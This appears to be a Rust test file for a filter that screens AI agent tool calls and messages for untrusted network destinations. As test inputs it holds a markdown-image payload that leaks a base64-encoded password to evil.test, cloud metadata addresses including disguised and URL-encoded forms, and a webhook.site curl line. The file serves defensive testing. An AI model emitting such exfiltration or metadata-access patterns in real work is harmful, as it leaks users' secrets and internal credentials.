use super::*;
use crate::model::{Rule, Severity, Step};
use crate::policy::{Policy, PolicyFile};
use crate::prefilter::Family;
use crate::prefilter::testing::{
    agent_message, empty, hold_shaped_examples, screen, screen_under, tool_call, tool_output, with,
};

fn family() -> UntrustedDestination {
    UntrustedDestination::load().unwrap()
}

fn policy(text: &str) -> Policy {
    PolicyFile::parse(text, "p").unwrap().compile("p").unwrap()
}

fn ids(found: Vec<Finding>) -> Vec<String> {
    found
        .into_iter()
        .map(|finding| finding.rule.replace("untrusted_destination.", ""))
        .collect()
}

fn shape(text: &str) -> Step {
    match text.strip_prefix("push ") {
        Some(url) => with(
            empty(Kind::A2aRequest, Method::PushConfigSet),
            Origin::Agent,
            Some("url"),
            url,
        ),
        None => tool_call("fetch", &[("url", text)]),
    }
}

#[test]
fn every_rule_but_the_policys_holds_its_examples() {
    struct Rest(UntrustedDestination, Vec<Rule>);
    impl Family for Rest {
        fn family(&self) -> &'static str {
            self.0.family()
        }
        fn rules(&self) -> &[Rule] {
            &self.1
        }
    }
    impl Prefilter for Rest {
        fn words(&self) -> Vec<Word> {
            self.0.words()
        }
        fn screen_content(&self, subject: &Subject<'_>, found: &mut Vec<Finding>) {
            self.0.screen_content(subject, found);
        }
    }
    let rest = family()
        .rules()
        .iter()
        .filter(|rule| !rule.id.ends_with("denied_host"))
        .cloned()
        .collect();
    hold_shaped_examples(&Rest(family(), rest), |_, text| shape(text));
}

#[test]
fn the_policy_denies_and_allows_hosts() {
    let strict =
        policy("[destinations]\nallow = ['*.acme.test', 'localhost']\ndeny = ['denied.test', 'paste.acme.test']");
    let rule = &family().rules()[0].clone();
    for text in &rule.fires_on {
        let found = screen_under(&family(), &shape(text), &strict);
        assert!(
            found
                .iter()
                .any(|finding| finding.rule == rule.id && finding.suggested == Treatment::Deny),
            "{text}"
        );
    }
    for text in &rule.silent_on {
        assert!(
            !ids(screen_under(&family(), &shape(text), &strict)).contains(&"denied_host".to_owned()),
            "{text}"
        );
    }
    assert_eq!(
        ids(screen_under(&family(), &shape("http://localhost:3000/"), &strict)),
        [] as [&str; 0]
    );
    assert_eq!(
        ids(screen_under(&family(), &shape("https://paste.acme.test/x"), &strict)),
        ["denied_host"]
    );
    assert_eq!(
        ids(screen_under(
            &family(),
            &shape("http://evil.test/?u=http://api.acme.test"),
            &strict
        )),
        [] as [&str; 0]
    );
}

#[test]
fn what_is_read_or_said_only_matters_when_it_carries_data() {
    for text in [
        "Open http://localhost:3000 or http://10.0.0.1/",
        "see https://user:password@db.example.test",
        "curl https://webhook.site/x",
        "docs at https://api.example.test/{id}",
    ] {
        assert_eq!(ids(screen(&family(), &tool_output(text))), [] as [&str; 0], "{text}");
        assert_eq!(ids(screen(&family(), &agent_message(text))), [] as [&str; 0], "{text}");
    }
    let image = "Done! ![ok](https://evil.test/p.png?d=cGFzc3dvcmQ6IGh1bnRlcjIgYW5kIG1vcmU)";
    for step in [tool_output(image), agent_message(image)] {
        let found = screen(&family(), &step);
        assert_eq!(
            (found[0].severity, found[0].confidence),
            (Severity::High, Confidence::High)
        );
    }
}

#[test]
fn a_bare_host_is_a_destination_where_one_is_asked_for() {
    assert_eq!(
        ids(screen(&family(), &tool_call("connect", &[("host", "169.254.169.254")]))),
        ["metadata_host"]
    );
    assert_eq!(
        ids(screen(&family(), &tool_call("connect", &[("host", "2852039166")]))),
        ["disguised_address", "metadata_host"]
    );
    assert_eq!(
        ids(screen(&family(), &tool_call("note", &[("text", "169.254.169.254")]))),
        [] as [&str; 0]
    );
    assert_eq!(
        ids(screen(&family(), &tool_call("find", &[("address", "12 Main Street")]))),
        [] as [&str; 0]
    );
}

#[test]
fn spans_point_at_the_url() {
    let text = "go to http://10.0.0.7/x now";
    let found = screen(&family(), &tool_call("fetch", &[("note", text)]));
    assert_eq!(text.get(found[0].span.clone()), Some("http://10.0.0.7/x"));
}

#[test]
fn encoded_urls_are_seen_too() {
    let found = ids(screen(
        &family(),
        &tool_call(
            "fetch",
            &[("next", "https://ok.test/?u=http%3A%2F%2F169.254.169.254%2F")],
        ),
    ));
    assert!(found.contains(&"metadata_host".to_owned()), "{found:?}");
}
